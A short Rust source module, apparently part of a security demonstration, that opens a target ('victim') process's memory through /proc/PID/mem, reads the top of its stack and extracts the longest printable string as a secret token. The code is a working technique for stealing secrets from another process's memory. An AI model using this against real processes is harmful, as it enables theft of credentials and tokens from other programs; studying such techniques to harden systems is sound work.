//! The token is read out of the victim's memory (`/proc/PID/mem`).

use std::{fs::File, os::unix::fs::FileExt};

use anyhow::{Context, Result};

use crate::{
    common::{stack_of, token},
    process_vm_readv::LENGTH,
};

pub fn run(args: &[String]) -> Result<()> {
    let pid = args.first().context("no pid")?;
    let (_, end) = stack_of(pid)?;
    let mut bytes = vec![0; LENGTH];
    let memory = File::open(format!("/proc/{pid}/mem"))?;
    memory.read_exact_at(&mut bytes, u64::try_from(end - LENGTH)?)?;
    find(&bytes)
}

/// A token among other bytes.
pub fn find(bytes: &[u8]) -> Result<()> {
    let texts = bytes.split(|b| !b.is_ascii_graphic());
    let longest = texts.max_by_key(|text| text.len());
    token(longest.unwrap_or_default())
}
